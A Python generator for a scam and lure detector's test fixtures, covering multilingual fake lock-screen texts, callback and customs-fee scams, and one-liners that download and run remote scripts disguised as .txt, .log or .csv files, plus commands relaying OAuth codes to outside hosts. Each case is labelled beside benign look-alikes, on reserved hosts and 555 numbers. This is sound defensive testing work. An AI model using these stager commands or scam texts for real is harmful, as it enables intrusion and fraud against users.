"""Writes tests/data/cases/b18lures.jsonl: the lure techniques BLIND-18 found weak (issue 9),
closed by technique, each beside the look-alikes that must stay as they are, and the shapes left
a warning by design.

    python tests/data/cases/make_b18lures.py

Deterministic (every case is a fixed text). Lure hosts are reserved names (.example, .test,
.invalid, documentation IP ranges) and every phone number is in a 555 block. No text is copied
from a lure collection, another detector's fixtures or the blind sets. Each line is {id, text,
expect, technique, platform[, source], target}.

Techniques:

- `lock-screen-more-languages`: the fake lock screen (the computer itself said to be locked,
  blocked or infected, and an order not to switch it off or close the page, beside a number to
  call) in the languages the scam-call rules read but the lock-screen trait did not (Czech,
  Slovak, Swedish, Danish, Norwegian, Finnish, Hungarian, Romanian, Greek, Ukrainian, Bulgarian,
  Croatian, Hebrew, Hindi, Indonesian, Vietnamese, Thai, Tagalog, Persian), and Korean's
  "끄지 말고" beside "끄지 마세요": blocked, brand or no brand. Look-alikes: an update screen
  that says not to switch off (no number: clean), an awareness note quoting the screen.
- `product-callback`: a fake order or renewal notice naming the product bought (iPhone, iPad,
  MacBook, AirPods, Xbox, PlayStation) rather than the company, with a number to call to cancel:
  blocked, as one naming the company is. Look-alikes: a genuine order confirmation that sends
  you to your account or app, a repair shop's advert.
- `scam-countdown`: a scam text that gives minutes to call ("within 15 minutes", "innerhalb von
  20 Minuten", "dans les 10 prochaines minutes", "30分以内"): blocked. Look-alikes: a courier
  calling 30 minutes before delivery, an appointment's 15 minutes, the same scam with days to
  call (a warning, as before).
- `script-named-text`: a script fetched and run as code (piped into a shell, PowerShell or
  Python, handed to iex or bash -c) whose file is named as a text or data file (.txt, .log,
  .csv, .dat, .rtf): a stager's disguise, blocked from a stranger's host with a page or
  without. Look-alikes: the same kinds of file only read (head, gpg --dearmor, saved and opened
  in Notepad), a requirements or constraints list handed to pip (pip install -r / --constraint
  <url>.txt: the warning an install from an address is bare, never a block), a project's own
  page running its own file (info).
- `account-limited` (known gap): "your PayPal account has been limited / we have limited your
  account … call" (English; German's "eingeschränkt" was read already): a scam, blocked beside
  the brand. Look-alikes: the genuine notice that sends you to the company's own site typed by
  hand ("log in to paypal.com", "melden Sie sich bei paypal.de an") or its app, and names no
  scam's needs, with a number for questions; a storage plan "limited to 5 GB". A look-alike
  site (paypal-resolve.help) is no company's own.
- `customs-fee-call` (known gap): a parcel held for a customs, import or delivery fee, to pay
  by calling (en de fr es it pt nl): a warning. Look-alikes: a carrier's notice that says pay
  online or in the app with a number for questions, duty charged to the account on delivery,
  a delivery fee with a number to change the time.
- `consentfix-code-sent` (known gap): a command that fetches an address on another host whose
  query carries a loopback sign-in redirect with its code (as it is or percent-encoded): the
  code handed to that host, blocked. Look-alikes: a token exchange with the sign-in service
  (redirect_uri and code siblings in one query), an authorize request naming a loopback
  redirect, a developer's curl of their own loopback callback.
- `renewal-call` (decided): "your subscription will renew for $399.99, to cancel call …" is a
  warning brandless and blocked with a brand; real small businesses send the brandless form.
- `bare-download-run` (by design, a warning): a plain HTTPS download piped into a shell or
  handed to iex, from an unknown host, with no page or from a page about software, and nothing
  else in the text: developers paste exactly this shape from projects no list knows, so only a
  trait (a port, a fix or text name, a lure's words, a page that is no software page) makes it
  a block. The opaque path (/m218, /x902) and a hand-written HttpClient cradle are no such
  trait: a stager and a project's short link look alike.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("b18l")
add = book.add

# ---- lock-screen-more-languages ---------------------------------------------------------------
LOCK_SCREENS = [
    "UPOZORNĚNÍ: Váš počítač je zablokován, zjištěn virus typu trojský kůň. Nezavírejte tuto "
    "stránku a zavolejte bezplatnou linku podpory 800 555 214.",
    "Váš počítač bol zablokovaný pre podozrivú aktivitu. Nevypínajte zariadenie a volajte "
    "technickú podporu: +421 2 5550 1188.",
    "Varning! Din dator har blockerats efter att ett virus upptäckts. Stäng inte av datorn, ring "
    "kundtjänst på 020-555 12 34 direkt.",
    "Advarsel: Din computer er blevet låst på grund af virus. Sluk ikke computeren. Ring til "
    "support på +45 55 51 23 40 nu.",
    "Advarsel! Din datamaskin er blokkert fordi virus er oppdaget. Ikke slå av maskinen, ring "
    "kundeservice på +47 555 01 234.",
    "Tietokoneesi on lukittu, koska siitä on löydetty virus. Älä sammuta laitetta. Soita tukeen "
    "numeroon +358 9 555 0123.",
    "Figyelem! A számítógépe zárolva, vírust észleltünk. Ne kapcsolja ki a gépet, hívja az "
    "ügyfélszolgálatot: +36 1 555 0147.",
    "Atenție! Computerul dumneavoastră a fost blocat din cauza unui virus. Nu opriți "
    "calculatorul și sunați la suport: +40 21 555 0198.",
    "Προσοχή! Ο υπολογιστής σας έχει κλειδωθεί λόγω ιού. Μην κλείσετε αυτή τη σελίδα, καλέστε "
    "την τεχνική υποστήριξη στο +30 210 555 0173.",
    "Увага! Ваш комп'ютер заблоковано через вірус. Не вимикайте пристрій і зателефонуйте в "
    "службу підтримки: +380 44 555 0162.",
    "Внимание! Вашият компютър е блокиран заради вирус. Не изключвайте устройството, обадете се "
    "на поддръжката: +359 2 555 0131.",
    "Upozorenje: vaše računalo je blokirano zbog virusa. Ne isključujte uređaj i nazovite "
    "podršku na +385 1 555 0144.",
    "אזהרה! המחשב שלך נחסם בגלל וירוס. אל תכבו את המחשב והתקשרו לתמיכה הטכנית: 03-555-0192",
    "चेतावनी! आपका कंप्यूटर ब्लॉक कर दिया गया है, वायरस पाया गया। कंप्यूटर बंद न करें, तुरंत "
    "सपोर्ट को कॉल करें: +91 80 5550 1234",
    "Peringatan! Komputer Anda telah diblokir karena terinfeksi virus. Jangan matikan komputer, "
    "segera hubungi dukungan teknis di +62 21 5550 1234.",
    "Cảnh báo! Máy tính của bạn đã bị khóa do nhiễm virus. Đừng tắt máy, hãy gọi ngay bộ phận "
    "hỗ trợ: +84 24 5550 1234.",
    "คำเตือน! คอมพิวเตอร์ของคุณถูกล็อก ตรวจพบไวรัส อย่าปิดเครื่อง โทรหาฝ่ายสนับสนุนทันที +66 2 555 0123",
    "Babala! Ang iyong computer ay na-block dahil may virus. Huwag i-off ang computer, tumawag "
    "sa support: +63 2 8555 0123.",
    "هشدار! کامپیوتر شما به دلیل ویروس مسدود شده است. خاموش نکنید و با پشتیبانی فنی تماس "
    "بگیرید: +98 21 5550 1234",
    "경고: 고객님의 PC가 해킹되었습니다. 전원을 끄지 말아 주시고 보안센터로 즉시 전화 "
    "주십시오. 02-555-0188",
]
LOCK_PAGES = [
    "https://shop.kayak-rentals.example/news/winter",
    None,
    "https://www.garden-swap.test/forum/t/221",
    None,
]
for i, text in enumerate(LOCK_SCREENS):
    add("lock-screen-more-languages", text, "malicious", source=LOCK_PAGES[i % len(LOCK_PAGES)])

# an update screen's "do not switch off", with no number: nothing to call
add(
    "lock-screen-more-languages",
    "Probíhá aktualizace systému Windows. Nevypínejte počítač, může se několikrát restartovat.",
    "clean",
)
add(
    "lock-screen-more-languages",
    "Päivitystä asennetaan. Älä sammuta tietokonetta ennen kuin asennus on valmis.",
    "clean",
)
# an awareness note quoting the screen
add(
    "lock-screen-more-languages",
    "Podvodníci zobrazují hlášku „Váš počítač byl zablokován, nevypínejte ho a volejte "
    "800 555 214“. Takové číslo nikdy nevolejte.",
    "not_flagged",
)

# ---- product-callback -------------------------------------------------------------------------
PRODUCT_CALLBACKS = [
    "Your PlayStation 5 order #PS-40218 for $649.99 has been placed. If you did not make this "
    "purchase, call our cancellation line now: +1 (555) 013-7720.",
    "Ihre Bestellung eines iPad Pro über 1.199,00 € wurde bestätigt. Sie haben diese Bestellung "
    "nicht aufgegeben? Rufen Sie sofort an: 0800 555 4410.",
    "Votre commande MacBook Pro de 2 399,00 € a été validée. Si vous n'êtes pas à l'origine de "
    "cet achat, appelez immédiatement le 01 55 50 12 34.",
    "Su pedido de Xbox Series X por 549,99 € ha sido procesado. Si no reconoce esta compra, "
    "llame al +34 555 010 733 para cancelarla.",
    "Il tuo ordine di AirPods Pro da 279,00 € è stato confermato. Se non hai effettuato tu "
    "l'acquisto, chiama subito il numero verde 800 555 019.",
    "Uw bestelling van een iPhone 17 (1.249,00 €) is verzonden. Heeft u deze bestelling niet "
    "geplaatst? Bel dan direct onze klantenservice: 088 555 0147.",
    "Pedido confirmado: MacBook Air M4 – R$ 12.499,00. Não reconhece esta compra? Ligue agora "
    "para a central de cancelamento: 0800 555 0162.",
]
for i, text in enumerate(PRODUCT_CALLBACKS):
    add("product-callback", text, "malicious", source=LOCK_PAGES[(i + 1) % len(LOCK_PAGES)])

add(
    "product-callback",
    "Thanks for your order! iPhone 17, 256 GB – $1,099.00. Track or manage your order in your "
    "account settings. Questions? Call us at 1-800-555-0199.",
    "not_flagged",
)
add(
    "product-callback",
    "Your order of a PlayStation 5 ($499.99) has shipped. Track it in the app. Customer "
    "service: +1 (555) 016-2200.",
    "not_flagged",
)
add(
    "product-callback",
    "Cracked iPhone screen? Same-day repair at Fixit Corner, from $89. Call 555-0142 to book.",
    "not_flagged",
)

# ---- scam-countdown ---------------------------------------------------------------------------
COUNTDOWNS = [
    "Your internet service has been suspended: our network detected a virus sending spam from "
    "your router. Call the security desk at +1 (555) 014-9921 within 15 minutes to restore "
    "access.",
    "Ihr Internetanschluss wurde wegen eines Virus gesperrt. Rufen Sie innerhalb von 20 Minuten "
    "den Sicherheitsdienst an: 0800 555 3321, sonst wird Ihr Vertrag gekündigt.",
    "Votre connexion internet a été suspendue : un virus a été détecté sur votre box. Appelez le "
    "service technique au 01 55 50 77 12 dans les 10 prochaines minutes.",
    "Su conexión a internet ha sido bloqueada: se detectó un virus en su router. Llame al "
    "+34 555 011 998 en los próximos 15 minutos para evitar el corte definitivo.",
    "La tua connessione internet è stata sospesa: è stato rilevato un virus nel tuo router. "
    "Chiama il supporto tecnico al 800 555 771 entro 30 minuti.",
    "Sua conta foi bloqueada por atividade suspeita. Ligue para a central de segurança "
    "0800 555 0177 em até 10 minutos para evitar o cancelamento.",
    "Uw internetverbinding is geblokkeerd: er is een virus gevonden op uw router. Bel binnen "
    "30 minuten de beveiligingsdienst: 088 555 0123.",
    "お使いのインターネット回線は停止されました。ルーターでウイルスが検出されました。"
    "30分以内にサポートセンターへお電話ください：0120-555-123",
]
for i, text in enumerate(COUNTDOWNS):
    add("scam-countdown", text, "malicious", source=LOCK_PAGES[(i + 2) % len(LOCK_PAGES)])

add(
    "scam-countdown",
    "Our courier will call you 30 minutes before delivery. Questions? Call customer service at "
    "+1 (555) 010-4400.",
    "not_flagged",
)
add(
    "scam-countdown",
    "Running late for your appointment? Please call us within 15 minutes of your slot on "
    "020 5550 1234 so we can keep it.",
    "not_flagged",
)
# the same alarm with days to call: a warning, as before
add(
    "scam-countdown",
    "Your internet service has been suspended because malware was found on your router. Call "
    "the security desk at +1 (555) 014-9921 within 3 days to restore access.",
    "suspicious",
)

# ---- script-named-text ------------------------------------------------------------------------
# (command, page, target)
NAMED_TEXT = [
    ('cmd /c "curl -s https://teasel-depot4.example/k221.txt | powershell -"', None, "terminal"),
    (
        "curl -fsSL https://files.quartzmoth.example/readme.txt | bash",
        "https://blog.devnotes-weekly.test/tips/shell",
        "terminal",
    ),
    (
        "iex (iwr -UseBasicParsing https://cdn.lanternfish.test/logs/update.log).Content",
        None,
        "terminal",
    ),
    (
        'powershell -NoP -c "iex (New-Object Net.WebClient).DownloadString('
        "'https://brindle-post.invalid/report.csv')\"",
        None,
        "run_dialog",
    ),
    ('bash -c "$(curl -fsSL https://hemlock-works.test/info.TXT)"', None, "terminal"),
    ("curl -s https://sorrel-pantry.example/memo.rtf | python3 -", None, "terminal"),
    (
        "$h=New-Object System.Net.Http.HttpClient; iex $h.GetStringAsync("
        "'https://thistle-arc.example/readme.txt').Result",
        None,
        "terminal",
    ),
    ("wget -qO- https://marten-ledge.example/feed.dat | sh", None, "terminal"),
]
for text, page, target in NAMED_TEXT:
    add("script-named-text", text, "malicious", "any", target, page)

# the same kinds of file only read, saved or fed to a tool that runs nothing of them
add(
    "script-named-text",
    "curl -s https://data.example-stats.org/cities.csv | head -20",
    "not_flagged",
    "linux",
    "terminal",
)
add(
    "script-named-text",
    "curl -fsSL https://mirror.example-distro.org/keys/release-key.txt | sudo gpg --dearmor -o "
    "/usr/share/keyrings/example.gpg",
    "not_flagged",
    "linux",
    "terminal",
)
add(
    "script-named-text",
    "Invoke-WebRequest https://fs.corp.example/share/readme.txt -OutFile readme.txt; notepad "
    "readme.txt",
    "not_flagged",
    "windows",
    "terminal",
)
# pip's requirements or constraints list: names pip installs, no file it runs (bare, an install
# from an address is the warning it was; with the project's page, information)
CONSTRAINED = (
    "pip install 'quillwork==3.1.0' --constraint "
    '"https://raw.githubusercontent.com/stoneware/quillwork/constraints-3.1.0/constraints-3.11.txt"'
)
add("script-named-text", CONSTRAINED, "suspicious", "any", "terminal")
add(
    "script-named-text",
    CONSTRAINED,
    "info",
    "any",
    "terminal",
    "https://github.com/stoneware/quillwork",
)
add(
    "script-named-text",
    "pip install -r https://pkgs.hedgerow-lab.test/team/requirements.txt",
    "suspicious",
    "any",
    "terminal",
)
# a project's own page running its own file, oddly named: its page vouches for it
add(
    "script-named-text",
    "curl -fsSL https://raw.githubusercontent.com/tallowsoft/dotkit/main/install.txt | bash",
    "info",
    "linux",
    "terminal",
    "https://github.com/tallowsoft/dotkit",
)

# ---- account-limited (known gap): "your PayPal account has been limited, call …" ------------
LIMITED = [
    "Your PayPal account has been limited. To restore access, call PayPal Resolution Center at "
    "+1 (555) 014-3321.",
    "Your PayPal account has been limited due to unusual activity. Call us now at 1-555-018-2290 "
    "to remove the limitation.",
    "Your Amazon account has been restricted. To restore access, call Amazon support at "
    "+1 (555) 016-4410.",
    "Ihr PayPal-Konto wurde eingeschränkt. Um den Zugang wiederherzustellen, rufen Sie "
    "0800 555 1432 an.",
    "Your account has been limited. Log in to paypal-resolve.help or call 1-888-555-0134 to "
    "restore access.",
]
for i, text in enumerate(LIMITED):
    add("account-limited", text, "malicious", source=LOCK_PAGES[i % len(LOCK_PAGES)])
# the brandless form: a warning
add(
    "account-limited",
    "We have temporarily limited your account. Call our resolution team at 1-555-017-2209 to "
    "restore access.",
    "suspicious",
)
# the genuine notice sends you to the company's own site (typed by hand) or its app
add(
    "account-limited",
    "We've limited your account. Log in to paypal.com to see what we need from you. Questions? "
    "Call us at 1-888-555-0134.",
    "not_flagged",
)
add(
    "account-limited",
    "Your account has been limited. Please log in to paypal.com and go to the Resolution Center "
    "to provide the information we need. Questions? Call us at 1-888-555-0134.",
    "not_flagged",
)
add(
    "account-limited",
    "Ihr Konto wurde eingeschränkt. Bitte melden Sie sich bei paypal.de an, um die nötigen "
    "Angaben zu machen. Fragen? Rufen Sie uns an: 0800 555 0134.",
    "not_flagged",
)
add(
    "account-limited",
    "Your storage plan is limited to 5 GB. Upgrade in the app or call sales at 1-888-555-0100.",
    "not_flagged",
)

# ---- customs-fee-call (known gap): a parcel's fee to pay by calling ---------------------------
CUSTOMS = [
    "Your parcel is held at customs. A fee of $2.99 is due. Call 1-555-013-7788 to pay and "
    "release it.",
    "USPS: your package could not be delivered, unpaid import duty of $1.99. Please call "
    "+1 (555) 014-2290 to settle the fee.",
    "Ihr Paket liegt beim Zoll. Zollgebühr 2,49 €. Rufen Sie 0800 555 3312 an, um die Gebühr zu "
    "bezahlen.",
    "Votre colis est bloqué en douane : frais de 1,99 €. Appelez le 01 55 50 33 21 pour payer et "
    "débloquer la livraison.",
    "Su paquete está retenido en aduana. Tasas de aduana: 2,99 €. Llame al +34 555 010 456 para "
    "pagar.",
    "Il tuo pacco è fermo in dogana: dazi di 2,50 €. Chiama il 02 5550 1234 per pagare e "
    "sbloccare la consegna.",
    "Sua encomenda está retida na alfândega. Taxa de R$ 12,90. Ligue 0800 555 0142 para pagar e "
    "liberar.",
    "Uw pakket ligt bij de douane. Invoerrechten € 2,95. Bel 088 555 0123 om direct te betalen.",
]
for i, text in enumerate(CUSTOMS):
    add("customs-fee-call", text, "suspicious", source=LOCK_PAGES[(i + 3) % len(LOCK_PAGES)])
add(
    "customs-fee-call",
    "DHL: import duty of €12.40 is due for your parcel. Pay online at dhl.de/zoll or in the DHL "
    "app. Questions? Call 0228 555 1234.",
    "not_flagged",
)
add(
    "customs-fee-call",
    "Royal Mail: your parcel has a £1.45 customs fee outstanding. Pay it online at "
    "royalmail.com/fees. Questions? Call 0345 555 0199.",
    "not_flagged",
)
add(
    "customs-fee-call",
    "Customs clearance for your shipment: duty of $34.20 will be charged to your account on "
    "delivery. Questions about the charge? Call 1-800-555-0177.",
    "not_flagged",
)
add(
    "customs-fee-call",
    "Your order has shipped. Delivery fee: $4.99. Call 555-0144 to change the delivery time.",
    "not_flagged",
)

# ---- consentfix-code-sent (known gap): a loopback redirect, code and all, sent on by curl ----
SENT = [
    'curl "https://collector.example/cb?u=http%3A%2F%2Flocalhost%3A8400%2Fcallback%3Fcode%3D'
    'M.C507_BAY.2.U.abcdef123456%26state%3Dxyz"',
    'iwr "https://relay-sync.test/r?next=http://127.0.0.1:53682/?state=a81Fz&code='
    '4/0AeanS0bXq8c1Tq2PZk9vYw"',
    "curl -s 'https://auth-bridge.invalid/collect?redirect=http%3A%2F%2Flocalhost%3A3000%2Fauth"
    "%2Fcallback%3Fcode%3D8f3kQm2Lz9XwP4tR7vB1%26state%3Dq1'",
]
for i, text in enumerate(SENT):
    add("consentfix-code-sent", text, "malicious", "any", "terminal", LOCK_PAGES[i % 2])
# a token exchange with the sign-in service (code and redirect_uri siblings), an authorize
# request naming a loopback redirect, a developer's own loopback callback
add(
    "consentfix-code-sent",
    'curl "https://login.example.com/oauth2/token?redirect_uri=http://localhost:8080/callback'
    '&code=abc123XYZ789defGHI"',
    "not_flagged",
    "any",
    "terminal",
)
add(
    "consentfix-code-sent",
    'curl "https://auth.example.com/authorize?client_id=abc&redirect_uri='
    'http%3A%2F%2Flocalhost%3A8080%2Fcallback&response_type=code"',
    "not_flagged",
    "any",
    "terminal",
)
add(
    "consentfix-code-sent",
    'curl "http://localhost:8080/callback?code=abc123XYZ789defGHI&state=1"',
    "not_flagged",
    "any",
    "terminal",
)

# ---- renewal-call (decided: brandless stays a warning) ---------------------------------------
# A renewal "to cancel, call" with no brand is a warning, with a brand it is blocked: gyms,
# magazines and insurers send the brandless form for real, so a block would hit them.
add(
    "renewal-call",
    "Your subscription will renew for $399.99. To cancel, call +1 (555) 014-8821.",
    "suspicious",
)
add(
    "renewal-call",
    "Your Norton subscription will renew for $399.99. To cancel, call +1 (555) 014-8821.",
    "malicious",
)

# ---- bare-download-run (by design: a warning) -------------------------------------------------
BARE = [
    ("curl -fsSL https://gossamer-vane3.example/m218 | zsh", None),
    ("wget -qO- https://larch-signal5.test/x902 | sh", None),
    (
        'powershell -c "$w=New-Object System.Net.Http.HttpClient; iex '
        "$w.GetStringAsync('https://ferrule-gate2.invalid/p17').Result\"",
        None,
    ),
    ("curl -fsSL https://kestrel-sync.example/install.sh | bash", None),
    (
        "curl -fsSL https://kestrel-sync.example/install.sh | bash",
        "https://blog.devnotes-weekly.test/tips/shell",
    ),
]
for text, page in BARE:
    add("bare-download-run", text, "suspicious", "any", "terminal", page)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("b18lures.jsonl"), CASES)
